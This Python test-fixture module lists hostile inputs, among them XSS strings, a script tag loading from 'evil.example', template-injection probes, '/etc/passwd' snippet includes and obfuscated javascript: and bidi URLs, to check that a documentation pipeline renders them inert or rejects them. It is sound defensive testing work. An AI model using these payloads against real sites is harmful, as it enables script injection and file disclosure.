"""Hostile text for every field kind: what an editor (or a pasted article) could put in YAML.

`TEXT` payloads go into plain and rich fields. In a plain field a reader must see the
payload exactly as typed (or the check rejects it with a located error). In a rich field
the allowed subset (emphasis, strong, code, links, [[refs]], bullet lists, backslash
escapes) is interpreted, so `rich` says what a reader sees there; None means the same as
the payload. Everything else, HTML and Markdown extension syntax included, stays literal.

`URLS` go into URL fields (source.url, seed url, actor links) and rich-text links; `ok`
says whether the content model allows the URL (http/https, plus mailto in rich text).
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Payload:
    name: str
    text: str
    rich: str | None = None  # what a reader sees when the payload is in a rich field

    @property
    def rich_visible(self) -> str:
        return self.text if self.rich is None else self.rich


@dataclass(frozen=True)
class UrlPayload:
    name: str
    url: str
    ok_http: bool  # allowed in http(s)-only fields (source.url, seed url, actor links)
    ok_rich: bool  # allowed as a rich-text link target (http, https, mailto)


TEXT: tuple[Payload, ...] = (
    # raw HTML: elements, event handlers, breaking out of attributes and elements
    Payload("script", "<script>alert(1)</script>"),
    Payload("script-src", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
    Payload("img-onerror", "<img src=x onerror=alert(1)>"),
    Payload("svg-onload", "<svg/onload=alert(1)>"),
    Payload("iframe", '<iframe src="javascript:alert(1)"></iframe>'),
    Payload("a-javascript", '<a href="javascript:alert(1)">click</a>'),
    Payload("form-action", '<form action="javascript:alert(1)"><button formaction='
                           '"javascript:alert(1)">go</button></form>'),
    Payload("style", "<style>body{display:none}</style>"),
    Payload("markdown-attr", '<div markdown="1">*x*</div>', rich='<div markdown="1">x</div>'),
    Payload("close-and-open", "</p></div><script>alert(1)</script>"),
    Payload("attr-breakout-double", '"><script>alert(1)</script>'),
    Payload("attr-breakout-single", "' onmouseover='alert(1)' x='"),
    Payload("nested-script", "<<script>script>alert(1)<</script>/script>"),
    Payload("comment", "<!-- hidden --> shown"),
    Payload("cdata-end", "]]> and <![CDATA[x]]>"),
    Payload("html-block", "para\n\n<div onclick=\"alert(1)\">\nblock\n</div>"),
    # URL schemes as text (not links): must stay inert text
    Payload("js-text", "javascript:alert(1)"),
    Payload("js-mixed-case", "JaVaScRiPt:alert(1)"),
    Payload("js-entity-dec", "java&#115;cript:alert(1)"),
    Payload("js-entity-hex", "&#x6A;avascript:alert(1)"),
    Payload("data-text", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    Payload("vbscript-text", "vbscript:msgbox(1)"),
    # entities: shown as typed, never decoded once more
    Payload("double-encoded", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    Payload("entities", "&amp; &nbsp; &#0; &#x3c; &unknown;"),
    Payload("backslash-escapes", "\\x3cscript\\x3e \\u003c \\\\ \\",
            rich="\\x3cscript\\x3e \\u003c \\ \\"),
    # Markdown links and images
    Payload("md-link-js", "[click](javascript:alert(1))"),
    Payload("md-link-ref-style", "[click][x]\n\n[x]: javascript:alert(1)"),
    Payload("ref-definition", "[x]: http://evil.example"),
    Payload("autolink-js", "<javascript:alert(1)>"),
    Payload("image-js", "![alt](javascript:alert(1))"),
    Payload("md-link-ok", "[fine](https://example.com/ok)", rich="fine"),
    # attribute lists and extension syntax
    Payload("attr-list", '{: onclick="alert(1)"}'),
    Payload("attr-list-after", 'text{: onclick="alert(1)" }'),
    Payload("attr-list-href", "{ href=javascript:alert(1) }"),
    Payload("heading-attr", "## Heading {#injected-id onclick=x}"),
    Payload("snippet", '--8<-- "/etc/passwd"'),
    Payload("snippet-block", "--8<--\n/etc/passwd\nmkdocs.yml\n--8<--"),
    Payload("jinja-expr", "{{ 7*7 }}"),
    Payload("jinja-raw", "{% raw %}{{ 7*7 }}{% endraw %}"),
    Payload("jinja-config", "{{ config.site_name }}{{ page.title }}"),
    Payload("template-dollar", "${7*7} #{7*7} <%= 7*7 %>", rich="${7 7} #{7 7} <%= 7*7 %>"),
    Payload("footnote-abbr", "text[^1]\n\n[^1]: a footnote\n\n*[HTML]: Hyper"),
    # block structure: must not leave the field
    Payload("heading", "# Heading"),
    Payload("heading-after-para", "para\n\n# Heading\n\n## Sub"),
    Payload("admonition", '!!! note "Title"\n    body'),
    Payload("details", "??? note\n    hidden"),
    Payload("tabs", '=== "Tab"\n    content'),
    Payload("blockquote", "> quoted"),
    Payload("ordered-list", "1. one\n2. two"),
    Payload("table", "| a | b |\n|---|---|\n| 1 | 2 |"),
    Payload("hr-front-matter", "---\ntitle: x\n---"),
    # a run of backticks opens a code span closed by the same run: shown as code, literally
    Payload("fenced-code", "```\nfenced <b>\n```", rich="fenced <b>"),
    Payload("fenced-mermaid", "```mermaid\ngraph TD; A-->B\n```", rich="mermaid graph TD; A-->B"),
    Payload("indented-code", "para\n\n    indented <b>"),
    # a code span over several lines must not carry a fence (or its attributes) into the
    # page: line breaks inside a code span are spaces
    Payload("code-span-fence-mermaid", "``x\n~~~mermaid\ngraph TD; A-->B\n~~~\ny``",
            rich="x ~~~mermaid graph TD; A-->B ~~~ y"),
    Payload("code-span-fence-attrs", "````x\n```{#md-content .md-header}\nboom\n```\ny````",
            rich="x ```{#md-content .md-header} boom ``` y"),
    # the rich subset itself, and references
    Payload("emphasis", "*emph* **strong** _under_ __dunder__", rich="emph strong _under_ __dunder__"),
    Payload("code-span", "`<script>` and `{{ 7*7 }}`", rich="<script> and {{ 7*7 }}"),
    Payload("ref-html-label", "[[arland|<b>x</b>]]", rich="<b>x</b>"),
    Payload("ref-js-label", "[[arland|javascript:alert(1)]]", rich="javascript:alert(1)"),
    Payload("ref-nested", "[[arland|[[borvia]]]]", rich="[[arland|Borvia]]"),
    Payload("bullet-html", "- <b>one</b>\n- two", rich="<b>one</b> two"),
    Payload("escaped-punct", "\\*not emph\\* \\[x\\]", rich="*not emph* [x]"),
    # quotes, dashes and other characters that the pipeline folds or escapes somewhere
    Payload("quotes-mix", "\"double\" 'single' “curly” ‘single’ <>&"),
    Payload("mermaid-syntax", 'a"] --> B["x"]; click B call alert(1) %%{init: {}}%%'),
    Payload("unicode", "Ünïcödé — 東京 — مرحبا — 😀 — e\u0301"),
    Payload("stars-only", "* ** *** _ __", rich="** *** _ __"),  # "* " starts a bullet
    Payload("brackets", "[ ] [[ ]] ( ) { } < >"),
)


URLS: tuple[UrlPayload, ...] = (
    UrlPayload("https", "https://example.com/path?q=1&r=2#frag", True, True),
    UrlPayload("http-upper", "HTTP://EXAMPLE.COM/", True, True),
    UrlPayload("query-js", "https://example.com/?next=javascript:alert(1)", True, True),
    UrlPayload("parens", "https://en.wikipedia.org/wiki/Arland_(country)", True, True),
    UrlPayload("mailto", "mailto:desk@example.com", False, True),
    UrlPayload("javascript", "javascript:alert(1)", False, False),
    UrlPayload("javascript-case", "JaVaScRiPt:alert(1)", False, False),
    UrlPayload("javascript-entity", "java&#115;cript:alert(1)", False, False),
    UrlPayload("javascript-hex-entity", "&#x6A;avascript:alert(1)", False, False),
    UrlPayload("javascript-tab", "java\tscript:alert(1)", False, False),
    UrlPayload("javascript-newline", "java\nscript:alert(1)", False, False),
    UrlPayload("javascript-leading-space", " javascript:alert(1)", False, False),
    UrlPayload("javascript-nul", "java\x00script:alert(1)", False, False),
    # C1 controls, noncharacters and invisible characters void MkDocs' front matter
    # reader or hide part of the address: refused by the one character rule
    UrlPayload("c1-csi", "https://example.com/a\x9bb", False, False),
    UrlPayload("noncharacter", "https://example.com/\ufffe", False, False),
    UrlPayload("zero-width-space", "https://exa\u200bmple.com/", False, False),
    UrlPayload("bidi-override", "https://example.com/\u202egpj.exe", False, False),
    UrlPayload("data", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", False, False),
    UrlPayload("vbscript", "vbscript:msgbox(1)", False, False),
    UrlPayload("file", "file:///etc/passwd", False, False),
    UrlPayload("protocol-relative", "//evil.example/x", False, False),
    UrlPayload("relative", "/etc/passwd", False, False),
    UrlPayload("no-host", "https:///path", False, False),
    UrlPayload("quote-breakout", 'https://example.com/"onmouseover="alert(1)', False, False),
    UrlPayload("angle-breakout", "https://example.com/<script>alert(1)</script>", False, False),
    UrlPayload("backslash-host", "https:\\\\evil.example", False, False),
)
